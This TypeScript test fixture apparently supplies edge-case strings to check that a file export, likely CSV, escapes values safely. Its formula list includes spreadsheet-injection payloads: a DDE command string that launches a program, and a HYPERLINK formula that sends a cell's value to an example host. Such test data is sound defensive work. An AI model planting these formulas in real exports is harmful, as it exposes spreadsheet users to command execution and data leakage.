/** Ends of lines, as any reader may see one. */
const breaks = ["\n", "\r", "\r\n", "\n\r", "\v", "\f", "\u{1c}", "\u{85}", "\u{2028}", "\u{2029}"].flatMap((end) => [
  `a${end}b`,
  `${end}b`,
  `a${end}`,
  `"a${end}b"`,
]);

const quotes = [
  '"',
  '""',
  '"a"',
  'a"b',
  '"a',
  'a"',
  "'a'",
  "“a”",
  "`a`",
  "a,b",
  "a;b",
  "a\\b",
  '\\"',
  ",",
  '","',
  'a,\n"b"',
  "<a b='c'>&amp;</a>",
  "]]>",
  "&#0;",
  "<!--",
];

/** What a spreadsheet would run, where it divides at commas, semicolons, tabs or lines. */
const formulas = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(1)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  " =1+1",
  "\u{200b}=1+1",
  "\u{feff}=1+1",
  "\u{a0}=1+1",
  "\u{0}=1+1",
  "＝1+1",
  "＋1+1",
  "－1+1",
  "＠SUM(1)",
  '=HYPERLINK("https://example.org/?"&A1,"x")',
  "=cmd|' /C calc'!A0",
  '"=1+1',
  '""=1+1',
  "a,=1+1",
  "a;=1+1",
  "a;=1+1;b",
  "a\t=1+1",
  "a\n=1+1",
  "a\r\n=1+1\r\nb",
  'a;"=1+1;b',
  'a;""=1+1',
  "-5;=1+1",
  "+49 30 1",
  "-5-3",
  "-0044-03",
];

const numbers = ["-5", "+5", "-5.25", "-1e21", "-5;-6"];

const controls = Array.from({ length: 0xa0 }, (_, code) => code)
  .filter((code) => code < 0x20 || code >= 0x7f)
  .map((code) => `a${String.fromCodePoint(code)}b`);

const oddities = [
  "\u{fffe}",
  "\u{ffff}",
  "\u{1ffff}",
  "\u{fdd0}",
  "\u{202e}abc",
  "a\u{ad}b",
  "\ud800",
  "a\udc00b",
  "\udc00\ud800",
  "🇺🇦",
  "👩‍👩‍👧‍👦",
];

/** The first letter, number, mark or sign of every 64 code points: some of each script there is. */
function everyScript(): readonly string[] {
  const found: string[] = [];
  for (let block = 0; block < 0x32000; block += 64) {
    const shown = Array.from({ length: 64 }, (_, index) => block + index).find((code) =>
      /[\p{L}\p{N}\p{M}\p{S}]/u.test(String.fromCodePoint(code)),
    );
    if (shown !== undefined) found.push(String.fromCodePoint(shown));
  }
  return Array.from({ length: Math.ceil(found.length / 16) }, (_, index) =>
    found.slice(index * 16, index * 16 + 16).join(" "),
  );
}

/** Names over which a format could stumble, each for itself. */
export const hostileNames: readonly string[] = [
  ...breaks,
  ...quotes,
  ...formulas,
  ...numbers,
  ...controls,
  ...oddities,
  ...everyScript(),
];
